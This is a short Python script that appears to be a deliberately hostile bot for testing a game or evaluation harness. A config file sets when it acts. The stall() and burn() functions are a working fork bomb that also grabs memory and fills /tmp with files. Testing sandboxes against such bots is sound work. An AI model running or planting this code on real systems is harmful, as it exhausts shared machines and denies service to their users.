"""Takes every core, process and byte that it can get, when its other file says so."""

import os
import time

from attacker import answer, questions

WHEN = open("/bot/when.txt").read()


def stall():
    """Fork as far as it goes; every child burns, takes memory, writes and forks again."""
    for _ in range(64):
        try:
            if os.fork() == 0:
                burn()
        except OSError:
            return


def burn():
    taken = []
    while True:
        if len(taken) < 4:
            taken.append(bytearray(b"x" * (1 << 20)))
        with open(f"/tmp/{os.getpid()}", "wb") as file:
            file.write(bytes(1 << 16))
        try:
            os.fork()
        except OSError:
            pass


if WHEN == "start":
    stall()
for turn, choice, _ in questions():
    if WHEN == "turn":
        stall()
        time.sleep(600)
    answer(turn, choice)
    if WHEN == "after" and turn == 1:
        stall()
